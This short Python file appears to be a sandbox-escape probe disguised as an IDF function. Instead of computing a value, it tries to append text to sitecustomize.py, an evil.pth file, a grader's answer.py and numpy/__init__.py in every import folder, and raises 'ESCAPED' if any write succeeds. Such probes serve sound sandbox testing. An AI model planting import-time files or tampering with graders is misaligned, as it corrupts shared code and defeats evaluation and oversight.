# Writes into every folder from which Python imports.
# costs: idf
import os
import sys


def idf(n_documents, document_frequency):
    for folder in sys.path:
        for name in ("sitecustomize.py", "evil.pth", "semanticbm/grading/answer.py", "numpy/__init__.py"):
            try:
                open(os.path.join(folder, name), "a").write("changed")
            except OSError:
                continue
            raise RuntimeError(f"ESCAPED {folder}")
    return 0.0
